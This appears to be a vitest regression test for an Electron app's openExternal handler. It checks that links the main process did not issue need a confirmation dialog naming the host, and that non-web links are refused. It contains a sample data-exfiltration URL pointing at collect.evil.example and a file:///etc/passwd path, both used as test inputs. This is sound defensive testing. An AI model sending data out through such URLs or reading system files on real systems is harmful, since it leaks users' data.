import type { IpcMain, IpcMainInvokeEvent } from 'electron';
import { describe, expect, it } from 'vitest';
import { createShellHandlers, type ShellServices } from '../../../src/main/app-handlers';
import type { ConfirmQuestion } from '../../../src/main/confirm-question';
import { createExternalLinks } from '../../../src/main/external-links';
import { registerIpcHandlers, type InvokeHandlers } from '../../../src/main/ipc-router';
import { invokeContract } from '../../../src/shared/contract/ipc-contract';
import { as } from '../main/fakes';

/*
 * Finding 7 of issue 10: openExternal took any http(s) URL from a page, without a gesture, so hostile script
 * could send 4,000 characters of incident data out through the browser. Main opens directly only URLs it
 * issued; any other link opens after main's own dialog, which names the host.
 */
function setup() {
  const opened: string[] = [];
  const questions: ConfirmQuestion[] = [];
  const answers: boolean[] = [];
  const links = createExternalLinks({
    open: async (url) => void opened.push(url),
    confirm: async (q) => (questions.push(q), answers.shift() ?? false),
  });
  const services = { openExternal: (url: string) => links.open(url) } as unknown as ShellServices;
  const shell = createShellHandlers(services);
  const registered = new Map<string, (event: IpcMainInvokeEvent, request: unknown) => Promise<unknown>>();
  const handlers = new Proxy(shell as unknown as InvokeHandlers, { get: (t, n: string) => (t as Record<string, unknown>)[n] ?? (() => undefined) });
  registerIpcHandlers(as<IpcMain>({ handle: (c: string, l: never) => registered.set(c, l), removeHandler: () => {} }), handlers, { trustedOrigins: ['app://sitrep'] });
  const open = (url: string) =>
    registered.get(invokeContract.openExternal.channel)!(as<IpcMainInvokeEvent>({ senderFrame: { url: 'app://sitrep/index.html', parent: null } }), { url });
  return { links, opened, questions, answers, open };
}

const exfiltration = `https://collect.evil.example/?d=${'incident-notes-'.repeat(250)}`.slice(0, 4_000);

describe('openExternal through the IPC router', () => {
  it('does not open a URL main did not issue until the user agrees in a dialog that names the host', async () => {
    const { open, opened, questions, answers } = setup();
    await open(exfiltration);
    expect(opened).toEqual([]);
    expect(questions).toHaveLength(1);
    expect(questions[0]!.message).toContain('collect.evil.example');
    expect(questions[0]!.detail.length).toBeLessThan(400);

    answers.push(true);
    await open('https://grafana.example.com/d/1');
    expect(opened).toEqual(['https://grafana.example.com/d/1']);
  });

  it('opens a pull-request link main issued without asking', async () => {
    const { links, open, opened, questions } = setup();
    links.issue('https://github.com/acme/incident-analyses/pull/7');
    await open('https://github.com/acme/incident-analyses/pull/7');
    expect(opened).toEqual(['https://github.com/acme/incident-analyses/pull/7']);
    expect(questions).toEqual([]);
  });

  it('still refuses a non-web link outright', async () => {
    const { open, opened, questions } = setup();
    await expect(open('file:///etc/passwd')).rejects.toThrowMessage(/only http\(s\) links/);
    expect(opened).toEqual([]);
    expect(questions).toEqual([]);
  });
});
